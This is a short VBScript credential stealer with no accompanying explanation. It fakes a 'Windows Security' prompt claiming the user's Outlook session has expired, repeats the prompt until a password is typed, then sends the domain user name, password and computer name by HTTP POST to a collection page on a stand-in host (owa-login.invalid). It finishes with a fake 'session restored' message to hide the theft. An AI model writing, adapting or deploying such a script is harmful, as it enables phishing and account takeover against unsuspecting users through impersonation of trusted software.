Set net = CreateObject("WScript.Network")
user = net.UserDomain & "\" & net.UserName
pass = ""
Do While pass = ""
    pass = InputBox("Your Microsoft Outlook session has expired." & vbCrLf & vbCrLf & _
        "Enter the password for " & user & " to reconnect to the Exchange server.", "Windows Security", "")
Loop
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "POST", "http://owa-login.invalid/auth/collect.php", False
x.setRequestHeader "Content-Type", "application/x-www-form-urlencoded"
x.Send "u=" & Escape(user) & "&p=" & Escape(pass) & "&h=" & net.ComputerName
MsgBox "Your session has been restored.", vbInformation, "Microsoft Outlook"
